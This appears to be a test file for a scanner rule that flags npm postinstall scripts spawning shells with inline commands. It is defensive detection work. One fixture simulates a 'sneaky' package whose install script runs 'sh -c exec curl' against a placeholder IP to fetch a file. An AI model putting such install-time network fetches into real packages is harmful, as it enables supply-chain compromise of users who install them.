import { test } from 'node:test';
import assert from 'node:assert/strict';
import { shellSpawnRule } from '../../src/rules/shell-spawn.js';
import { ChainBuilder } from './chain-builder.js';
import { run } from './helpers.js';

test('shell-spawn: shells with inline commands are info, one finding per script', () => {
  const b = new ChainBuilder();
  const s = b.pkg('builder').script('postinstall', 'node build.js', { wrapperExecs: ['node', 'build.js'] });
  const bash = s.process(['bash', '-ec', 'echo hi > out.txt'], { exe: '/usr/bin/bash' });
  const sh = s.process(['/bin/sh', '-c', 'uname -a'], { parent: bash });
  s.process(['uname', '-a'], { parent: sh });
  const findings = run(shellSpawnRule, b.build());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.severity, 'info');
  assert.deepEqual(findings[0]?.evidence, [bash.id, sh.id]);
  assert.match(findings[0]?.message ?? '', /runs 2 shells with an inline command: bash -ec 'echo hi > out.txt'/);
});

test('shell-spawn: a shell that exec\'d into something else still counts', () => {
  const b = new ChainBuilder();
  const s = b.pkg('sneaky').script('postinstall', 'node x.js');
  const p = s.process(['sh', '-c', 'exec curl http://203.0.113.5/x'], { exe: '/bin/sh' });
  s.exec(p, ['curl', 'http://203.0.113.5/x'], '/usr/bin/curl');
  assert.deepEqual(run(shellSpawnRule, b.build())[0]?.evidence, [p.id]);
});

test("shell-spawn: npm's own sh -c wrapper, shell scripts run by path and -c after the operand do not fire", () => {
  const b = new ChainBuilder();
  const s = b.pkg('plain').script('postinstall', 'node install.js', { wrapperExecs: ['node', 'install.js'] });
  s.process(['sh', './configure'], { exe: '/bin/sh' });
  s.process(['bash', 'build.sh', '-c'], { exe: '/usr/bin/bash' });
  s.process(['node', '-e', 'console.log(1)'], { exe: '/usr/local/bin/node' });
  assert.deepEqual(run(shellSpawnRule, b.build()), []);
});
